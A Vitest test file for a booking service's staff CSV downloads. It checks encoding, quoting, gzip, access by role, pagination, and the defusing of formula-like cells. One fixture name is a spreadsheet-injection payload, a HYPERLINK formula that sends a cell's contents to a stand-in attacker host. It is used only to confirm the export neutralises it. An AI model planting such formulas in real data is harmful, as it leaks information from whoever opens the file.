import { gunzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DAY_PAGE_ROWS } from '../../server/bookings/day-export.ts'
import { accounts, bookings, wallets } from '../../server/db/schema.ts'
import { DEMO_DOOR, DEMO_STAFF } from '../../server/db/seed.ts'
import { GUEST_PAGE_ROWS } from '../../server/events/guest-list.ts'
import { bearer, dbCases, expectError, signIn, startApi, type TestApi } from '../support/api-app.ts'
import { DAYS, debitWallet, photoWalk, poetry, rsvp, spot, UNLIMITED } from '../support/bookings.ts'

// The staff's spreadsheets: an event's guest list as a manager downloads it (GET
// /staff/events/{id}/guests.csv) and a day's bookings as the front desk does (GET
// /staff/bookings.csv): files a spreadsheet on a phone opens as written (UTF-8 with a byte order
// mark, RFC 4180), whose cells never run as formulas, every row once, a page read at a time.

const POETRY = '/api/staff/events/poetry-and-palm-wine/guests.csv'
const WALK = '/api/staff/events/photo-walk-lagos-island/guests.csv'
const MARKET = 'design-market'

/** A mother and her son, each with a ticket (the server takes one ticket an address an event). */
const FAMILY_EMAIL = 'the.adebayo-ogunlesi.family@yahoo.com'
const SON_EMAIL = 'bayo.adebayo-ogunlesi@gmail.com'
/** A comma and quotes in one name, as a guest typed it. */
const BAYO = 'Adébáyọ̀ "Bayo" Ògúnlẹ́sì, Jr.'
const MOTHER = 'Olúwafúnmiláyọ̀ Adébáyọ̀-Ògúnlẹ́sì'
/** A name that a spreadsheet would run, typed into the booking form. */
const FORMULA = '=HYPERLINK("https://evil.example/steal?c="&A2,"Click me")'

const HEADER = [
  'Day',
  'Time',
  'Name',
  'E-mail',
  'Phone',
  'Party',
  'Guests',
  'Paid (NGN)',
  'Paid with',
  'Came in',
  'Checked in at',
]

type Row = Record<string, string>

describe.each(dbCases())('%s', (_name, kind, skip) => {
  describe.skipIf(skip)("an event's guest list, downloaded", () => {
    let api: TestApi
    let manager: string

    const download = (url: string, token = manager) =>
      api.app.inject({ url, headers: bearer(token) })
    const rowsOf = (body: string): Row[] =>
      parse(body, { bom: true, columns: true, skip_empty_lines: true })

    beforeAll(async () => {
      api = await startApi(kind, { app: { rateLimit: UNLIMITED, visitorShare: 1 } })
      manager = await signIn(api, DEMO_STAFF)
      const guests = [
        { Name: MOTHER, Email: FAMILY_EMAIL, Phone: '+234 803 555 0190' },
        { Name: BAYO, Email: SON_EMAIL, Phone: '0803 555 0191' },
        { Name: FORMULA, Email: 'tunde.bakare@example.com', Phone: '0809 555 0192' },
      ]
      for (const [i, guest] of guests.entries()) {
        const response = await rsvp(api, poetry(guest), { address: `198.51.100.${40 + i}` })
        expect(response.statusCode, response.body).toBe(201)
      }
      // Ada on the photo walk, from her wallet, answering its two questions.
      const [wallet] = await api.db
        .select({ id: wallets.id })
        .from(wallets)
        .innerJoin(accounts, eq(accounts.id, wallets.accountId))
        .where(eq(accounts.email, 'ada@example.com'))
      const walked = await debitWallet(
        api,
        wallet?.id ?? '',
        {
          debitAmount: 250_000,
          narration: 'Photo Walk',
          booking: photoWalk({
            Email: 'ada@example.com',
            Name: 'Ada Okafor',
            Phone: '+234 803 555 0101',
            metadata: JSON.stringify({
              'Instagram handle': '@ada.builds',
              'Camera type': 'Fujifilm X100V',
            }),
          }),
        },
        { token: await signIn(api, 'ada@example.com') },
      )
      expect(walked.statusCode, walked.body).toBe(201)
    })
    afterAll(() => api?.close())

    it('is a CSV download a phone opens as written: UTF-8 with a BOM, every cell quoted, CRLF', async () => {
      const response = await download(POETRY)
      expect(response.statusCode, response.body).toBe(200)
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="poetry-and-palm-wine-guests.csv"',
      )
      expect(response.headers['cache-control']).toBe('no-store')
      expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
      const [first] = response.body.replace(/^\uFEFF/, '').split('\r\n')
      expect(first).toBe(HEADER.map((cell) => `"${cell}"`).join(','))
    })

    it('comes gzipped to a phone that takes it (never brotli, which holds the first byte), the same file', async () => {
      const plain = await download(POETRY)
      const zipped = await api.app.inject({
        url: POETRY,
        headers: { ...bearer(manager), 'accept-encoding': 'gzip, deflate, br' },
      })
      expect(zipped.statusCode).toBe(200)
      expect(zipped.headers['content-encoding']).toBe('gzip')
      expect(zipped.headers.vary).toContain('accept-encoding')
      expect(gunzipSync(zipped.rawPayload).equals(plain.rawPayload)).toBe(true)
    })

    it('keeps a name with a comma and quotes whole, and defuses one that starts a formula', async () => {
      const rows = rowsOf((await download(POETRY)).body)
      const names = rows.map((row) => row.Name)
      expect(names).toContain(BAYO)
      expect(names).toContain(MOTHER)
      expect(names).toContain(`'${FORMULA}`)
      expect(names.filter((name) => /^[=+\-@\t\r]/.test(name ?? ''))).toEqual([])
      // A phone in the international way would start a formula too.
      const mother = rows.find((row) => row.Name === MOTHER)
      expect(mother).toMatchObject({
        Day: DAYS.poetry,
        Time: '4pm - 8pm',
        'E-mail': FAMILY_EMAIL,
        Phone: "'+234 803 555 0190",
        Party: '1',
        Guests: '',
        'Paid (NGN)': '0.00',
        'Paid with': 'Free',
        'Came in': '0 of 1',
        'Checked in at': '',
      })
      // Each guest once, the demo's and these three.
      const emails = rows.map((row) => row['E-mail'])
      expect(emails.filter((email) => email === FAMILY_EMAIL || email === SON_EMAIL)).toHaveLength(
        2,
      )
      expect(new Set(emails).size).toBe(emails.length)
    })

    it("gives each of the event's questions a column, with each guest's answer", async () => {
      const response = await download(WALK)
      expect(response.statusCode, response.body).toBe(200)
      const [header] = parse(response.body, { bom: true, to_line: 1 }) as string[][]
      expect(header).toEqual([...HEADER, 'Instagram handle', 'Camera type'])
      const ada = rowsOf(response.body).find((row) => row['E-mail'] === 'ada@example.com')
      expect(ada).toMatchObject({
        'Paid (NGN)': '2500.00',
        'Paid with': 'Wallet',
        'Instagram handle': "'@ada.builds",
        'Camera type': 'Fujifilm X100V',
      })
    })

    it("lists one day's guests with date, and says which days the event is on otherwise", async () => {
      const response = await download(`${POETRY}?date=${DAYS.poetry}`)
      expect(response.statusCode, response.body).toBe(200)
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="poetry-and-palm-wine-${DAYS.poetry}-guests.csv"`,
      )
      expect(rowsOf(response.body).every((row) => row.Day === DAYS.poetry)).toBe(true)
      expectError(
        await download(`${POETRY}?date=${DAYS.supper}`),
        400,
        `Poetry & Palm Wine is not on ${DAYS.supper}: choose one of its days, or none for all.`,
      )
      expect((await download(`${POETRY}?date=2026-02-30`)).statusCode).toBe(400)
      expect((await download(`${POETRY}?date=tomorrow`)).statusCode).toBe(400)
      expectError(
        await download('/api/staff/events/no-such-event/guests.csv'),
        404,
        'No event has this id.',
      )
    })

    it('is for managers: the door, a member and nobody signed in are refused', async () => {
      const door = await download(POETRY, await signIn(api, DEMO_DOOR))
      expect(door.statusCode).toBe(403)
      expect(door.body).not.toContain(FAMILY_EMAIL)
      const member = await download(POETRY, await signIn(api, 'ada@example.com'))
      expect(member.statusCode).toBe(403)
      expect((await api.app.inject({ url: POETRY })).statusCode).toBe(401)
    })

    it(`sends a list longer than a page (${GUEST_PAGE_ROWS} rows) whole: every guest once, in order, the cancelled left out`, async () => {
      // A big day, set in the database: 2.4 pages of guests, a tenth of them cancelled.
      const count = Math.round(GUEST_PAGE_ROWS * 2.4)
      await api.db.insert(bookings).values(
        Array.from({ length: count }, (_, i) => ({
          email: `guest${i}@lagosdesignmarket.com.ng`,
          name: `Guest ${String(i).padStart(5, '0')} Olúwaṣeun`,
          phone: '0803 555 0100',
          type: 'event' as const,
          eventId: MARKET,
          venue: 'Courtyard',
          date: '2026-12-08',
          paidWith: 'free' as const,
          status: i % 10 === 0 ? ('cancelled' as const) : ('confirmed' as const),
        })),
      )
      const response = await download(`/api/staff/events/${MARKET}/guests.csv`)
      expect(response.statusCode, response.body).toBe(200)
      const names = rowsOf(response.body)
        .map((row) => row.Name ?? '')
        .filter((name) => name.startsWith('Guest '))
      const expected = Array.from({ length: count }, (_, i) => i)
        .filter((i) => i % 10 !== 0)
        .map((i) => `Guest ${String(i).padStart(5, '0')} Olúwaṣeun`)
      expect(names).toEqual(expected)
    })
  })
})

describe.each(dbCases())('%s', (_name, kind, skip) => {
  describe.skipIf(skip)("a day's bookings, downloaded", () => {
    let api: TestApi
    let desk: string
    const DAY = DAYS.poetry
    const URL = `/api/staff/bookings.csv?date=${DAY}`
    const rowsOf = (body: string): Row[] =>
      parse(body, { bom: true, columns: true, skip_empty_lines: true })

    beforeAll(async () => {
      api = await startApi(kind, { app: { rateLimit: UNLIMITED, visitorShare: 1 } })
      desk = await signIn(api, DEMO_STAFF)
      // Kemi co-works with a guest whose name holds a comma; a guest comes to the poetry.
      const kemi = await signIn(api, 'kemi@example.com')
      const coworked = await rsvp(
        api,
        spot({
          Email: 'kemi@example.com',
          Name: 'Kemi Adeyemi',
          Phone: '+234 807 555 0121',
          Date: DAY,
          Amount: 0,
          Venue: 'Library',
          Visitors: 1,
          'Names of Visitors': 'Ifeanyichukwu Okoro-Nwosu, Jr.',
        }),
        { token: kemi },
      )
      expect(coworked.statusCode, coworked.body).toBe(201)
      const poet = await rsvp(
        api,
        poetry({ Name: MOTHER, Email: FAMILY_EMAIL, Phone: '0803 555 0190' }),
        {
          address: '198.51.100.70',
        },
      )
      expect(poet.statusCode, poet.body).toBe(201)
    })
    afterAll(() => api?.close())

    it('lists the day by the hour its session starts, each with what it is for and its status', async () => {
      const response = await api.app.inject({ url: URL, headers: bearer(desk) })
      expect(response.statusCode, response.body).toBe(200)
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="bookings-${DAY}.csv"`,
      )
      const rows = rowsOf(response.body)
      const kemi = rows.find((row) => row.Name === 'Kemi Adeyemi')
      expect(kemi).toMatchObject({
        Time: '10am - 10pm',
        What: 'Co-working',
        Venue: 'Library',
        Party: '2',
        Guests: 'Ifeanyichukwu Okoro-Nwosu, Jr.',
        Status: 'Confirmed',
        'Paid with': 'Membership',
        'Came in': '0 of 2',
        Phone: "'+234 807 555 0121",
      })
      expect(rows.find((row) => row.Name === MOTHER)).toMatchObject({
        Time: '4pm - 8pm',
        What: 'Event',
        For: 'Poetry & Palm Wine',
        'Paid with': 'Free',
      })
      // By the hour: a 10am session before a 4pm one, whatever the text's order.
      const minutes = rows.map((row) => {
        const [, hour, ampm] = /^(\d{1,2})(?::\d{2})?(am|pm)/.exec(row.Time ?? '') ?? []
        return hour ? (Number(hour) % 12) + (ampm === 'pm' ? 12 : 0) : -1
      })
      expect(minutes).toEqual([...minutes].sort((a, b) => a - b))
    })

    it('is for the front desk: a member and nobody signed in are refused; a day must be a day', async () => {
      expect(
        (await api.app.inject({ url: URL, headers: bearer(await signIn(api, 'ada@example.com')) }))
          .statusCode,
      ).toBe(403)
      expect((await api.app.inject({ url: URL })).statusCode).toBe(401)
      expectError(
        await api.app.inject({
          url: '/api/staff/bookings.csv?date=2026-02-30',
          headers: bearer(desk),
        }),
        400,
        '2026-02-30 is not a day on the calendar.',
      )
      expect(
        (await api.app.inject({ url: '/api/staff/bookings.csv', headers: bearer(desk) }))
          .statusCode,
      ).toBe(400)
    })

    it(`sends a day longer than a page (${DAY_PAGE_ROWS} rows) whole, in order, each once`, async () => {
      const count = Math.round(DAY_PAGE_ROWS * 2.2)
      const slots = ['7:30am - 11am', '10am - 2pm', '2pm - 6pm', '6pm - 10pm']
      await api.db.insert(bookings).values(
        Array.from({ length: count }, (_, i) => ({
          email: `maker${i}@lagosprintmakers.com.ng`,
          name: `Maker ${String(i).padStart(5, '0')}`,
          phone: '0803 555 0100',
          type: 'print-studio' as const,
          venue: 'Print Studio',
          date: '2026-12-10',
          timeSlot: slots[i % slots.length],
          paidWith: 'free' as const,
        })),
      )
      const response = await api.app.inject({
        url: '/api/staff/bookings.csv?date=2026-12-10',
        headers: bearer(desk),
      })
      expect(response.statusCode, response.body).toBe(200)
      const rows = rowsOf(response.body).filter((row) => row.Name?.startsWith('Maker '))
      // Each slot by the hour it starts (7:30am, 10am, 2pm, 6pm), and in each, by name.
      const expected = slots.flatMap((slot, at) =>
        Array.from({ length: count }, (_, i) => i)
          .filter((i) => i % slots.length === at)
          .map((i) => [slot, `Maker ${String(i).padStart(5, '0')}`]),
      )
      expect(rows.map((row) => [row.Time, row.Name])).toEqual(expected)
    })
  })
})
